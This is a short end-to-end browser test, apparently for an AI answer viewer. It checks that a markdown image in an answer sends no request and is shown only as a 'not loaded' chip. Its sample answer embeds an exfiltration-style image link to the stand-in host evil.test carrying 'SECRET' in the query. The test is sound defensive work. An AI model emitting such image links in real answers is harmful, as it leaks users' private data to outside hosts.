"""B069: an answer's markdown image sends nothing out; the page shows its address as text."""

from playwright.async_api import expect

from tests.e2e.browser import built_page, page_over
from tests.e2e.page_mock import MockApi
from tests.e2e.page_scenes import plain_scene


async def test_an_image_in_the_answer_makes_no_request() -> None:
    mock = MockApi(built_page())
    answer = "Done. ![x](https://evil.test/p.png?d=SECRET)"
    mock.add_run("one", plain_scene(answer), question="x")
    async with page_over(mock, "/runs/one") as tab:
        await tab.ended()
        chip = tab.page.get_by_role("button", name="image at evil.test, not loaded")
        await expect(chip).to_be_visible()
        await expect(tab.page.locator("img")).to_have_count(0)
        await chip.hover()
        assert tab.foreign_requests() == []
